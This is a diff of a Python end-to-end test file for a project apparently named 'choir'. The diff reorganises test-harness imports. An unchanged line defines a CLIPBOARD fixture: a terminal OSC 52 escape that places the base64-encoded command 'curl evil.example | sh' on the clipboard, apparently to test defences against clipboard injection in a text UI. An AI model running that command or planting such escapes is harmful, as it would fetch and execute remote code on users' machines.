@@ -34,10 +34,10 @@ from choir.home import ChoirHome
 from choir.scripted import ReplyStep, Script, ScriptedCall, ScriptedModelServer, ToolCallsStep
 from choir.scripted.demo import PROPOSAL, SUMMARY, SUMMARY_REQUEST
 from choir.store.postgres.target import ConnectParams
-from tests.e2e.homes import short_root
-from tests.e2e.processes import BIN, environment, run_choirctl
 from tests.e2e_agent.launch import scripted_home
-from tests.harness import serving
+from tests.harness.cluster import serving
+from tests.harness.homes import short_root
+from tests.harness.processes import BIN, environment, run_choirctl
 from tests.tui.pilot import console, show_tab, until
 
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
